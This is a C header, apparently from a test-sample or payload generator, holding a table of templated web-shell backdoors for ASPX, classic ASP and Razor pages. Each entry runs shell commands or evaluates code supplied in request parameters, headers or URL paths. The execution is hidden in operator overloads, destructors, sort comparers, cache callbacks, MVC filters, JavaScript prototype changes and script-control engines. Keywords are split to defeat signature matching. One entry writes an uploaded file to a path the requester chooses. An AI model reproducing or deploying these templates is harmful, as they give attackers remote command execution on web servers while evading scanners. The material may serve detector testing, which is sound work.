/* What a language does without being told: operators, callbacks, errors, engines. The plans of shape_text.h. */
#ifndef TECHNIQUE_LANGUAGE_H
#define TECHNIQUE_LANGUAGE_H

#include "technique.h"

static const struct technique by_language[] = {
    { "{o}@ Page {l}=\"C#\" {c}<{s} {a}>class W { public string v; public static explicit operator W(string s){ return new W{v=s}; } public void "
      "R(){ System.Diagnostics.{p}.Start(\"c""md"".exe\",\"/c \"+v); } } void Page_Lo""ad(object s, EventArgs e){ W x = (W){r}[\"k\"]; x.R(); "
      "}</{s}>",
      "a cast of its own", PAGE_ASPX, PAGE_BACK_DOOR },
    { "{o}@ Page {l}=\"C#\" {c}<{s} {a}>class W { public string v=\"\"; public static W operator +(W a, string b){ System.Diagnostics.{p}.Start(\"c""md"".exe\","
      "\"/c \"+b); return a; } } void Page_Lo""ad(object s, EventArgs e){ W x = new W(); x += {r}[\"k\"]; }</{s}>",
      "a sum of its own", PAGE_ASPX, PAGE_BACK_DOOR },
    { "{o}@ Page {l}=\"C#\" {c}<{s} {a}>class W { public string v; public static string operator !(W a){ System.Diagnostics.{p}.Start(\"c""md"".exe\","
      "\"/c \"+a.v); return \"\"; } } void Page_Lo""ad(object s, EventArgs e){ var x = new W{ v = {r}[\"k\"] }; var y = !x; }</{s}>",
      "a not of its own", PAGE_ASPX, PAGE_BACK_DOOR },
    { "{o}@ Page {l}=\"C#\" {c}<{s} {a}>class W { public string v; public static bool operator ==(W a, string b){ System.Diagnostics.{p}.Start(\"c""md"".exe\","
      "\"/c \"+b); return true; } public static bool operator !=(W a,string b){return false;} } void Page_Lo""ad(object s, EventArgs e){ var x "
      "= new W(); if (x == {r}[\"k\"]) Response.Write(\"1\"); }</{s}>",
      "an equality of its own", PAGE_ASPX, PAGE_BACK_DOOR },
    { "{o}@ Page {l}=\"C#\" {c}<{s} {a}>class W { public string v; public static bool operator true(W a){ System.Diagnostics.{p}.Start(\"c""md"".exe\","
      "\"/c \"+a.v); return true; } public static bool operator false(W a){return false;} } void Page_Lo""ad(object s, EventArgs e){ var x = new "
      "W{v={r}[\"k\"]}; if (x) Response.Write(\"1\"); }</{s}>",
      "a truth of its own", PAGE_ASPX, PAGE_BACK_DOOR },
    { "{o}@ Page {l}=\"VB\" {c}<{s} {a}>\nClass W\nPublic v As String\nPublic Shared Widening Operator CType(w As W) As String\nSystem.Diagnostics.{p}.Start(\"c""md"".exe\","
      " \"/c \" & w.v)\nReturn \"\"\nEnd Operator\nEnd Class\nSub Page_Lo""ad()\nDim x As New W\nx.v = {r}(\"k\")\nDim s As String = x\nEnd Sub\n</{s}>",
      "a conversion of its own", PAGE_ASPX, PAGE_BACK_DOOR },
    { "{o}@ Page {l}=\"VB\" {c}<{s} {a}>\nClass W\nPublic Shared Operator &(w As W, s As String) As String\nSystem.Diagnostics.{p}.Start(\"c""md"".exe\","
      " \"/c \" & s)\nReturn \"\"\nEnd Operator\nEnd Class\nSub Page_Lo""ad()\nDim x = (New W) & {r}(\"k\")\nEnd Sub\n</{s}>",
      "a join of its own", PAGE_ASPX, PAGE_BACK_DOOR },
    { "{o}@ Page {l}=\"C#\" {c}<{s} {a}>class W : IComparable { public string v; public int CompareTo(object o){ System.Diagnostics.{p}.Start(\"c""md"".exe\","
      "\"/c \"+v); return 0; } } void Page_Lo""ad(object s, EventArgs e){ var a = new[]{ new W{v={r}[\"k\"]}, new W() }; Array.Sort(a); }</{s}>",
      "sorted by itself", PAGE_ASPX, PAGE_BACK_DOOR },
    { "{o}@ Page {l}=\"C#\" {c}<{s} {a}>class K : IComparer { public int Compare(object a, object b){ System.Diagnostics.{p}.Start(\"c""md"".exe\","
      "\"/c \"+a); return 0; } } void Page_Lo""ad(object s, EventArgs e){ var l = new ArrayList(); l.Add({r}[\"k\"]); l.Add(\"b\"); l.Sort(new "
      "K()); }</{s}>",
      "a comparer", PAGE_ASPX, PAGE_BACK_DOOR },
    { "{o}@ Page {l}=\"C#\" {c}<{s} {a}>void Page_Lo""ad(object s, EventArgs e){ var l = new List<string>{ {r}[\"k\"], \"b\" }; l.Sort((a,b)=>{ "
      "System.Diagnostics.{p}.Start(a); return 0; }); }</{s}>",
      "a comparison", PAGE_ASPX, PAGE_BACK_DOOR },
    { "{o}@ Page {l}=\"C#\" {c}<{s} {a}>class W : IDisposable { public string v; public void Dispose(){ System.Diagnostics.{p}.Start(\"c""md"".exe\","
      "\"/c \"+v); } } void Page_Lo""ad(object s, EventArgs e){ using (var w = new W{ v = {r}[\"k\"] }) { } }</{s}>",
      "at the end of using", PAGE_ASPX, PAGE_BACK_DOOR },
    { "{o}@ Page {l}=\"C#\" {c}<{s} {a}>class W { public string v; ~W(){ System.Diagnostics.{p}.Start(\"c""md"".exe\",\"/c \"+v); } } void Page_Lo""ad(object "
      "s, EventArgs e){ new W{ v = {r}[\"k\"] }; GC.Collect(); }</{s}>",
      "when it is collected", PAGE_ASPX, PAGE_BACK_DOOR },
    { "{o}@ Page {l}=\"C#\" {c}<{s} {a}>class W : IEn""umerable<int> { public string v; public IEn""umerator<int> GetEn""umerator(){ System.Diagnostics.{p}.Start(\"c""md"".exe\","
      "\"/c \"+v); yield break; } IEn""umerator IEn""umerable.GetEn""umerator(){ return null; } } void Page_Lo""ad(object s, EventArgs e){ foreach "
      "(var i in new W{ v = {r}[\"k\"] }) { } }</{s}>",
      "gone through", PAGE_ASPX, PAGE_BACK_DOOR },
    { "{o}@ Page {l}=\"C#\" {c}<{s} {a}>class W { public string this[string k] { set { System.Diagnostics.{p}.Start(k, value); } } } void Page_Lo""ad(object "
      "s, EventArgs e){ new W()[\"c""md\"] = {r}[\"k\"]; }</{s}>",
      "an index that is set", PAGE_ASPX, PAGE_BACK_DOOR },
    { "{o}@ Page {l}=\"C#\" {c}<{s} {a}>class D : System.Dynamic.DynamicObject { public override bool TryInv""oke""Member(System.Dynamic.Inv""oke""MemberBinder "
      "b, object[] a, out object r){ r = System.Diagnostics.{p}.Start(\"c""md\",\"/c \"+a[0]); return true; } } void Page_Lo""ad(object s, EventArgs "
      "e){ dynamic d = new D(); d.Go({r}[\"k\"]); }</{s}>",
      "an object without a class", PAGE_ASPX, PAGE_BACK_DOOR },
    { "{o}@ Page {l}=\"C#\" {c}<{s} {a}>void Page_Lo""ad(object s, EventArgs e) {new[]{{r}[\"k\"]}.Select({p}.Start).ToList();}</{s}>",
      "a method as a value", PAGE_ASPX, PAGE_BACK_DOOR },
    { "{o}@ Page {l}=\"C#\" {c}<{s} {a}>void Page_Lo""ad(object s, EventArgs e) {Array.ConvertAll(new[]{{r}[\"k\"]}, new Converter<string,{p}>({p}.Start)"
      ");}</{s}>",
      "a method that converts", PAGE_ASPX, PAGE_BACK_DOOR },
    { "{o}@ Page {l}=\"C#\" {c}<{s} {a}>void Page_Lo""ad(object s, EventArgs e) {HttpRuntime.Cache.Insert(\"a\", {r}[\"k\"], null, DateTime.Now.AddSeconds(1)"
      ", Cache.NoSlidingExpiration, CacheItemPriority.Default, (k, v, r) => {p}.Start(\"c""md\", \"/c \" + v));}</{s}>",
      "when the cache forgets it", PAGE_ASPX, PAGE_BACK_DOOR },
    { "{o}@ Page {l}=\"C#\" {c}<{s} {a}>void Page_Lo""ad(object s, EventArgs e) {System.Web.Routing.RouteTable.Routes.Add(new System.Web.Routing.Route(\"x\","
      " new RH())); } class RH : System.Web.Routing.IRouteHandler { public IHttpHandler GetHttpHandler(System.Web.Routing.{r}Context r) { {p}.Start(\"c""md\","
      " \"/c \" + r.HttpContext.{r}[\"k\"]); return null; } } void Z() {}</{s}>",
      "a route", PAGE_ASPX, PAGE_BACK_DOOR },
    { "{o}@ Page {l}=\"C#\" {c}<{s} {a}>void Page_Lo""ad(object s, EventArgs e) {System.Web.Mvc.Glo""balFilters.Filters.Add(new F()); } class "
      "F : System.Web.Mvc.IActionFilter { public void OnActionEx""ecuting(System.Web.Mvc.ActionEx""ecutingContext c) { {p}.Start(\"c""md\", \"/c "
      "\" + c.HttpContext.{r}[\"k\"]); } public void OnAction{x}d(System.Web.Mvc.Action{x}dContext c) {} } void Z() {}</{s}>",
      "a filter", PAGE_ASPX, PAGE_BACK_DOOR },
    { "{o}@ Page {l}=\"C#\" {c}<{s} {a}>void Page_Lo""ad(object s, EventArgs e) {System.Web.Http.Glo""balConfiguration.Configuration.MessageHandlers.Add(new "
      "DH()); } class DH : System.Net.Http.DelegatingHandler { protected override Task<HttpResponseMessage> SendAsync(Http{r}Message r, CancellationToken "
      "t) { IEn""umerable<string> v; if (r.Headers.TryGetValues(\"x\", out v)) {p}.Start(\"c""md\", \"/c \" + v.First()); return base.SendAsync(r,"
      " t); } } void Z() {}</{s}>",
      "a handler of messages", PAGE_ASPX, PAGE_BACK_DOOR },
    { "{o}@ Page {l}=\"{j}\" {c}{o}\nwith ({r}) { {e}(Item[\"k\"], \"{u}\"); }\n{c}",
      "with the request", PAGE_ASPX, PAGE_BACK_DOOR },
    { "{o}@ {l}=\"{j}\" {c}{o}\nString({r}(\"k\")).replace(/.+/, function(m){ {e}(m); });\n{c}",
      "a replacement that acts", PAGE_ASP, PAGE_BACK_DOOR },
    { "{o}@ {l}=\"{j}\" {c}{o}\nString({r}(\"k\")).replace(/.+/, {e});\n{c}",
      "a replacement by the word itself", PAGE_ASP, PAGE_BACK_DOOR },
    { "{o}@ {l}=\"{j}\" {c}{o}\nArray.prototype.go = function(){ {e}(this[0]); }; [String({r}(\"k\"))].go();\n{c}",
      "all lists", PAGE_ASP, PAGE_BACK_DOOR },
    { "{o}@ {l}=\"{j}\" {c}{o}\nString.prototype.go = function(){ return {e}(String(this)); }; String({r}(\"k\")).go();\n{c}",
      "all texts", PAGE_ASP, PAGE_BACK_DOOR },
    { "{o}@ {l}=\"{j}\" {c}{o}\nObject.prototype.x = {e}; var o = {}; o.x(String({r}(\"k\")));\n{c}",
      "all objects", PAGE_ASP, PAGE_BACK_DOOR },
    { "{o}@ {l}=\"{j}\" {c}{o}\n[String({r}(\"k\")),\"b\"].sort(function(a,b){ {e}(a); return 0; });\n{c}",
      "a sort that acts", PAGE_ASP, PAGE_BACK_DOOR },
    { "{o}@ {l}=\"{j}\" {c}{o}\nFunction.prototype.apply.call({e}, null, [String({r}(\"k\"))]);\n{c}",
      "a function of functions", PAGE_ASP, PAGE_BACK_DOOR },
    { "{o}\nOn Error Resume Next\nErr.Raise 1, \"a\", {r}(\"k\")\n{x} Err.De{s}ion\n{c}",
      "an error that tells", PAGE_ASP, PAGE_BACK_DOOR },
    { "{o}\nOn Error Resume Next\nErr.Raise 1, {r}(\"k\")\n{x} Err.Source\n{c}",
      "an error that names its source", PAGE_ASP, PAGE_BACK_DOOR },
    { "{o}\nOn Error Resume Next\nErr.De{s}ion = {r}(\"k\")\n{x} Err.De{s}ion\n{c}",
      "a description", PAGE_ASP, PAGE_BACK_DOOR },
    { "{o}\nSet s = Create""Object(\"MSScript""Control.Script""Control\")\ns.{l} = \"VBScript\"\ns.AddObject \"R\", {r}\ns.{x}Statement \"{x} "
      "R(\"\"k\"\")\"\n{c}",
      "an object that is lent", PAGE_ASP, PAGE_BACK_DOOR },
    { "{o}\nSet s = Create""Object(\"MSScript""Control.Script""Control\")\ns.{l} = \"{j}\"\ns.AddObject \"Q\", {r}, True\ns.Ev""al \"{e}(String(Q(k)"
      "))\"\n{c}",
      "an object that is lent, in another language", PAGE_ASP, PAGE_BACK_DOOR },
    { "{o}\nSet s = Create""Object(\"Script""Control\")\ns.{l} = \"VBScript\"\ns.AddCode \"Sub go(x) : {x} x : End Sub\"\ns.Run \"go\", {r}(\"k\")"
      "\n{c}",
      "a function that was taught", PAGE_ASP, PAGE_BACK_DOOR },
    { "{o}\nSet s = Create""Object(\"Script""Control\")\ns.{l} = \"VBScript\"\ns.AddCode \"Sub go(x) : {x} x : End Sub\"\ns.CodeObject.go {r}(\"k\")"
      "\n{c}",
      "a function of the engine", PAGE_ASP, PAGE_BACK_DOOR },
    { "{o}\nSet s = Create""Object(\"Script""Control\")\ns.{l} = \"VBScript\"\ns.Modules.Add(\"m\").{x}Statement {r}(\"k\")\n{c}",
      "a part of the engine", PAGE_ASP, PAGE_BACK_DOOR },
    { "{o}\nSet r = New RegExp\nr.Pattern = \"#\"\nr.Glo""bal = True\n{x} r.Replace(\"E#x#e#c#ute Req#uest(\"\"k\"\")\", \"\")\n{c}",
      "marks taken out", PAGE_ASP, PAGE_BACK_DOOR },
    { "@page\n@model IndexModel\n@functions { public class IndexModel : PageModel { public void OnPost(string c""md) { System.Diagnostics.{p}.Start(\"c""md"".exe\","
      " \"/c \" + c""md); } } }",
      "a model of a page", PAGE_RAZOR_CS, PAGE_BACK_DOOR },
    { "@page\n@functions { [BindProperty(SupportsGet = true)] public string C { get; set; } public void OnGet() { System.Diagnostics.{p}.Start(\"c""md"".exe\","
      " \"/c \" + C); } }",
      "a property that is filled", PAGE_RAZOR_CS, PAGE_BACK_DOOR },
    { "{o}@ Page {l}=\"C#\" {c}<input type=\"file\" id=\"f\" {a}/><input id=\"p\" {a}/><{s} {a}>void B(object s, EventArgs e){ f.PostedFile.{f}(p.Value)"
      "; }</{s}><asp:Button {a} OnClick=\"B\"/>",
      "a file in a form", PAGE_ASPX, PAGE_BACK_DOOR },
    { "{o}@ Page {l}=\"C#\" {c}<{s} {a}>void Page_Lo""ad(object s, EventArgs e){ var k = {r}.Path.Substring({r}.FilePath.Length); System.Diagnostics.{p}.Start(\"c""md\","
      " \"/c \" + k); }</{s}>",
      "the path, cut", PAGE_ASPX, PAGE_BACK_DOOR },
    { "{o}@ Page {l}=\"C#\" {c}<{s} {a}>void Page_Lo""ad(object s, EventArgs e){ var k = {r}.Path.Replace({r}.FilePath, \"\"); System.Diagnostics.{p}.Start(\"c""md\","
      " \"/c \" + k); }</{s}>",
      "the path, replaced", PAGE_ASPX, PAGE_BACK_DOOR },
    { "{o}@ Page {l}=\"C#\" {c}<{s} {a}>void Page_Lo""ad(object s, EventArgs e){ var k = {r}.Url.AbsolutePath.Split('/').Last(); System.Diagnostics.{p}.Start(\"c""md\","
      " \"/c \" + HttpUtility.UrlDecode(k)); }</{s}>",
      "the path, in parts", PAGE_ASPX, PAGE_BACK_DOOR },
};

#endif
